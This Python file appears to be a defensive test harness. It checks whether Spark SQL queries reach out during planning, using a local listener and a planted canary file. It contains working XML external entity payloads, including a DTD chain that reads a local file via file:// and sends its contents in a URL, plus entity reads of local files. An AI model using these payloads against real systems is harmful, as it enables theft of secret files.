# SPDX-License-Identifier: Apache-2.0
"""Queries that reach out of Spark while they are planned, and what they reach for: a listener, and a file that is nobody's
business. As a program (reaching.py LISTENER PLANTED ANSWERS) it sends them all through a job's own session."""

import http.server
import json
import secrets
import sys
import threading
from pathlib import Path

SCHEMA = '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a" type="xs:int"/></xs:schema>'


class Listener:
    """Counts what is asked of it, and serves the files that carry a planted one out: a schema whose DTD sends it in a URL."""

    def __init__(self, planted):
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                listener.asked.append(self.path)
                body = listener.files.get(self.path.partition("?")[0], "").encode()
                self.send_response(200)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.asked = []
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.files = {
            "/plain.xsd": SCHEMA,
            "/out.xsd": f'<!DOCTYPE x SYSTEM "{self.url}/out.dtd">{SCHEMA}',
            "/out.dtd": f'<!ENTITY % f SYSTEM "file://{planted}">'
                        f"<!ENTITY % e \"<!ENTITY &#37; x SYSTEM '{self.url}/out?%f;'>\">%e;%x;",
        }
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


def plant(folder):
    """A file as those under secrets/ are, and what is in it."""
    folder = Path(folder)
    folder.mkdir(mode=0o700, parents=True)
    planted = folder / "planted"
    planted.touch(mode=0o600)
    text = "planted-" + secrets.token_hex(16)
    planted.write_text(text + "\n")
    return planted, text


def queries(url, planted):
    def from_xml(path):
        return f"SELECT from_xml('<a>1</a>', 'a INT', map('rowValidationXSDPath', '{path}')) AS x"

    def xpath(doctype):
        return f"SELECT xpath_string('<!DOCTYPE a {doctype}><a>&s;1</a>', 'a') AS x"

    return {
        "from_xml http": from_xml(f"{url}/plain.xsd"),
        "from_xml http, DTD, file": from_xml(f"{url}/out.xsd"),
        "from_xml file": from_xml(f"file://{planted}"),
        "from_xml har": from_xml(f"har://http-{url.removeprefix('http://')}/x.har/x"),
        "xpath http": xpath(f'SYSTEM "{url}/x.dtd"').replace("&s;", ""),
        "xpath jar": xpath(f'SYSTEM "jar:{url}/x.jar!/x"').replace("&s;", ""),
        "xpath entity http": xpath(f'[<!ENTITY s SYSTEM "{url}/entity">]'),
        "xpath entity file": xpath(f'[<!ENTITY s SYSTEM "file://{planted}">]'),
        "xpath file": xpath(f'SYSTEM "file://{planted}"').replace("&s;", ""),
    }


def send_one(session, name, sql):
    try:
        return {name: repr(session.sql(sql).collect())}
    except Exception as error:  # whatever Spark makes of it
        return {name: str(error)}


def send(session, url, planted):
    """By name, the whole answer or error of each."""
    answers = {}
    for name, sql in queries(url, planted).items():
        answers.update(send_one(session, name, sql))
    return answers


def main(url, planted, answers):
    from pyspark.sql import SparkSession

    session = SparkSession.builder.getOrCreate()
    sent = send(session, url, planted)
    sent["1 + 1"] = repr(session.sql("SELECT 1 + 1 AS x").collect())
    Path(answers).write_text(json.dumps(sent))


if __name__ == "__main__":
    main(*sys.argv[1:])
